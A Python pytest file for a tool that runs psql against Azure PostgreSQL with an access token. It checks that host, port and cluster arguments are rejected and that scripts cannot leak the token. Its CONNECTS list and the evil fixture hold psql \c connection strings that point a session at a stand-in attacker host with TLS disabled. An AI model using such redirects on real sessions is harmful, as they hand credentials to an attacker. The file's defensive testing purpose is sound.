"""`azpg psql`: which arguments psql gets, and that a script cannot send the password elsewhere."""

from __future__ import annotations

import os
import subprocess
from typing import TYPE_CHECKING, TypeAlias

import pytest
from fix_hostile import Hostile, Peer, ask_in_clear

import azpg
from azpg import _psql

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from fix_command import Command

    from azpg.emulator import Emulator


@pytest.fixture(scope="session")
def psql_target(tools: Path) -> Callable[[list[str]], str]:
    """Return the message of psql, which has no server to connect to."""

    def where(arguments: list[str]) -> str:
        done = subprocess.run(
            [tools / "psql", *arguments],
            env={"PGHOST": "/nowhere", "PGUSER": "app", "LC_ALL": "C"},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 2
        return done.stderr

    return where


Where: TypeAlias = "Callable[[list[str]], str]"

ELSEWHERE = [
    ["-h", "elsewhere.invalid"],
    ["-helsewhere.invalid"],
    ["-Ath", "elsewhere.invalid"],
    ["-Athelsewhere.invalid"],
    ["--host", "elsewhere.invalid"],
    ["--host=elsewhere.invalid"],
    ["--ho=elsewhere.invalid"],
    ["mydb", "-h", "elsewhere.invalid"],
    ["-c", "select 1", "-h", "elsewhere.invalid"],
    ["-d", "host=elsewhere.invalid"],
    ["-dhost=elsewhere.invalid"],
    ["--dbname=host=elsewhere.invalid"],
    ["--d", "postgresql://elsewhere.invalid/x"],
    ["postgres://elsewhere.invalid/x"],
    ["-Xq", "host=elsewhere.invalid"],
    ["--", "host=elsewhere.invalid"],
    ["-p", "1", "-h", "elsewhere.invalid"],
]
HERE = [
    [],
    ["mydb"],
    ["mydb", "team"],
    ["-d", "mydb"],
    ["-dmydb", "team"],
    ["--dbname=mydb", "-U", "team"],
    ["-U", "team"],
    ["-Xq", "-AtUteam", "mydb"],
    ["--user", "team", "--", "mydb"],
    ["--username=team"],
    ["-c", "select a=b"],
    ["--command", "select '-h' where a=b"],
    ["--command=select a=b", "-d", "my db's"],
    ["-v", "host=elsewhere.invalid"],
    ["--set", "port=1", "mydb"],
    ["-Atc", "select a=b", "mydb"],
    ["-Pnull=-"],
    ["-P", "null=-"],
    ["--pset=null=-"],
    ["-f", "host=a.sql"],
    ["-l"],
    ["-l", "mydb"],
    ["-", "--no-psqlrc"],
]


@pytest.mark.parametrize("arguments", ELSEWHERE, ids=" ".join)
def test_psql_is_not_connected_to_another_host(psql_target: Where, arguments: list[str]) -> None:
    """Arguments that connect psql to another host are rejected."""
    assert "elsewhere.invalid" in psql_target(arguments)
    with pytest.raises(azpg.ConfigError, match="to azpg"):
        _psql.parse_psql_args(arguments)


@pytest.mark.parametrize("arguments", [["-p", "1"], ["-p1"], ["--port=1"], ["--po", "1"]], ids=str)
def test_psql_is_not_connected_to_another_port(psql_target: Where, arguments: list[str]) -> None:
    """Arguments that connect psql to another port are rejected."""
    assert ".s.PGSQL.1" in psql_target(arguments)
    with pytest.raises(azpg.ConfigError, match="to azpg"):
        _psql.parse_psql_args(arguments)


def test_debians_wrapper_is_not_connected_to_a_cluster() -> None:
    """--cluster is rejected: with it Debian's psql connects to another server."""
    for arguments in (["--cluster", "15/main"], ["--cluster=15/evil.example:5432"]):
        with pytest.raises(azpg.ConfigError, match="to azpg"):
            _psql.parse_psql_args(arguments)


def test_surplus_arguments_are_rejected() -> None:
    """Arguments that psql would ignore with a warning are rejected, all at once."""
    with pytest.raises(azpg.ConfigError) as caught:
        _psql.parse_psql_args(["mydb", "team", "one", "-h", "x", "two"])
    assert [word for word in ("-h", "'one'", "'two'") if word not in str(caught.value)] == []


@pytest.mark.parametrize("arguments", HERE, ids=str)
def test_database_and_user_are_parsed_as_by_psql(
    hostile: Callable[..., Hostile], tools: Path, arguments: list[str]
) -> None:
    """The real psql sends the server the database and the user that azpg has parsed."""
    asked: list[list[bytes]] = []

    def record(peer: Peer) -> None:
        asked.append(peer.packet()[4:].split(b"\0"))
        peer.refuse("no")

    server = hostile(record)

    def startup(*words: str) -> dict[bytes, bytes]:
        asked.clear()
        subprocess.run(
            [tools / "psql", *words],
            env={"PGHOST": server.host, "PGPORT": str(server.port), "PGSSLMODE": "disable"}
            | {"PGUSER": "app", "PGGSSENCMODE": "disable", "PGDATABASE": "shop"},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            check=False,
        )
        (words_of_packet,) = asked
        return dict(zip(words_of_packet[::2], words_of_packet[1::2], strict=False))

    packet = startup(*arguments)
    defaults, named, rest = _psql.parse_psql_args(arguments)
    read = {"user": "app", "dbname": "shop"} | defaults | named
    assert packet[b"user"].decode() == read["user"]
    assert packet[b"database"].decode() == read["dbname"]
    assert startup(*rest, "-d", "other db", "-U", "someone")[b"database"] == b"other db"


@pytest.fixture(scope="session")
def team(emulator15: Emulator) -> str:
    """Create a role that the emulator's identity is a member of."""
    emulator15.add_role("people of psql", kind="group", members=[emulator15.principal])
    return "people of psql"


QUERY = ("-c", "select current_user, current_database()")


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        (["-XAt", *QUERY], "myapp|postgres"),
        (["--dbname", "template1", "-XAt", *QUERY], "myapp|template1"),
        (["--", "-XAt", *QUERY, "template1"], "myapp|template1"),
        (["--", "-XAtd", "template1", *QUERY], "myapp|template1"),
        (["--user", "people of psql", "-XAt", *QUERY], "people of psql|postgres"),
        (["-XAtU", "people of psql", *QUERY], "people of psql|postgres"),
        (["--", "template1", "people of psql", "-XAt", *QUERY], "people of psql|template1"),
        (["--", "-XAt", "-vq=select current_user", "-c", r"\c template1", *QUERY],
         'You are now connected to database "template1" as user "myapp".\nmyapp|template1'),
    ],
    ids=str,
)  # fmt: skip
def test_psql_authenticates(
    azure15: Emulator, command: Command, team: str, words: list[str], expected: str
) -> None:
    """The real psql connects with the database and user in the arguments of azpg or psql."""
    before = azure15.counts.sign_ins
    ran = command("psql", "--server", "myserver", *words)
    assert (ran.out, ran.status) == (expected + "\n", 0), ran.err
    assert azure15.counts.sign_ins > before


def test_psql_uses_verified_tls(azure15: Emulator, command: Command) -> None:
    """The session of psql is encrypted, and a server with a wrong certificate gets no token."""
    ran = command("psql", "--server", "myserver", "-Xc", r"\conninfo")
    assert "TLSv1.3" in ran.out, ran.err
    before = azure15.counts.refused_sign_ins + azure15.counts.sign_ins
    with azure15.fault(certificate="other-name"):
        ran = command("psql", "--server", "myserver", "-c", "select 1")
    assert ran.status == 2
    assert "does not match host name" in ran.err
    assert azure15.counts.refused_sign_ins + azure15.counts.sign_ins == before


def test_a_conninfo_is_an_argument_of_azpg(azure15: Emulator, command: Command) -> None:
    """A connection string is azpg's first argument; among psql's arguments it is rejected."""
    asked = f"host={azure15.host} dbname=template1 sslmode=require"
    ran = command("psql", asked, "--", "-XAtc", "select current_database()")
    assert ran.out == "template1\n"
    evil = command("psql", "host=evil.example", "-c", "select 1")
    assert (evil.status, evil.out) == (2, "")
    assert "a token never goes to 'evil.example'" in evil.err
    assert command("psql", "-X", "host=evil.example").status == 2


# A script that connects elsewhere

CONNECTS = [
    r'\c "host={evil} sslmode=disable"',
    r'\c "host={evil} port={other} user=myapp sslmode=disable"',
    r'\c "host=evil.example hostaddr={evil} user=myapp dbname=postgres sslmode=disable"',
    r'\c "hostaddr={evil} sslmode=disable"',
    r'\c "hostaddr={evil} port=5432 user=myapp dbname=postgres sslmode=disable"',
    r'\c "host={host} hostaddr={evil} port={other} user=myapp sslmode=disable"',
    r'\c "host={host} hostaddr={evil} user=other sslmode=disable"',
    r"\c postgresql://myapp@{evil}:5432/postgres?sslmode=disable",
    r"\c postgresql://myapp@evil.example/postgres?hostaddr={evil}&sslmode=disable",
    r'\c -reuse-previous=on "host={evil} hostaddr={evil} sslmode=disable"',
    r'\c -reuse-previous=on "host=evil.example hostaddr={evil} sslmode=disable"',
    r'\c -reuse-previous=on "hostaddr={evil} port={other} sslmode=disable"',
    r'\c -reuse-previous=on "hostaddr={evil} user=other sslmode=disable"',
]


@pytest.fixture
def evil(hostile: Callable[..., Hostile], tools: Path) -> tuple[Hostile, Hostile]:
    """Listen on the server's port and on another one for passwords in clear text."""
    address = f"127.66.{os.getpid() >> 8 & 255}.{os.getpid() & 255 or 255}"
    servers = hostile(ask_in_clear, address, 5432), hostile(ask_in_clear, address)
    for server in servers:
        place = {"PGHOST": address, "PGPORT": str(server.port), "PGUSER": "myapp"}
        # A program that has a password for this address sends it
        subprocess.run(
            [tools / "psql"],
            env=place | {"PGPASSWORD": "eyJ.of.nobody"},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            check=False,
        )
        assert b"eyJ.of.nobody" in server.clear
        server.clear.clear()
    return servers


@pytest.mark.parametrize(
    ("how", "connect"),
    [("-f", CONNECTS[0]), ("PSQLRC", CONNECTS[0]), *(("-c", each) for each in CONNECTS)],
)
def test_a_script_cannot_send_the_token_elsewhere(
    azure15: Emulator,
    command: Command,
    evil: tuple[Hostile, Hostile],
    tmp_path: Path,
    how: str,
    connect: str,
) -> None:
    r"""`\c` to another host, port or user reaches it without the token."""
    here, other = evil
    line = connect.format(evil=here.host, other=other.port, host=azure15.host)
    script = tmp_path / "script.sql"
    script.write_text(f"{line}\n")
    words = {"-c": ["-Xwc", line], "-f": ["-Xwf", str(script)], "PSQLRC": ["-w", "-c", "select 1"]}
    ran = command("psql", "--server", "myserver", *words[how], PSQLRC=str(script))
    assert here.connections + other.connections == 3, ran.err
    assert b"eyJ" not in here.clear + other.clear
